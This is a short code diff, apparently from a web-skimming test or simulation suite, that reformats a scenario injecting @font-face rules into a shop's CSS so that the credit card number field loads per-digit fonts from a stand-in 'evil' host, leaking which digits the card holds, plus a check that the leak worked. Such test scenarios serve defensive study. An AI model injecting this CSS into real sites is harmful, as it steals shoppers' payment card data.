@@ -10,12 +10,15 @@ export default skimmer({
     site.alter('shop/assets/shop.css', (css) => {
       const faces = Array.from(
         { length: 10 },
-        (_, d) => `@font-face{font-family:wk;src:url(${site.origins.evil}/f/${d}.woff2);unicode-range:U+3${d}}`,
+        (_, d) =>
+          `@font-face{font-family:wk;src:url(${site.origins.evil}/f/${d}.woff2);unicode-range:U+3${d}}`,
       );
       return `${css}\n${faces.join('\n')}\n#cc-number{font-family:wk,sans-serif}`;
     }),
   proof: (arrived, cards) => {
-    const seen = new Set(at(arrived, 'evil').flatMap(({ url }) => /^\/f\/(\d)\./.exec(url.pathname)?.[1] ?? []));
+    const seen = new Set(
+      at(arrived, 'evil').flatMap(({ url }) => /^\/f\/(\d)\./.exec(url.pathname)?.[1] ?? []),
+    );
     return cards.some((card) => seen.size > 2 && Array.from(card.number).every((digit) => seen.has(digit)));
   },
 });
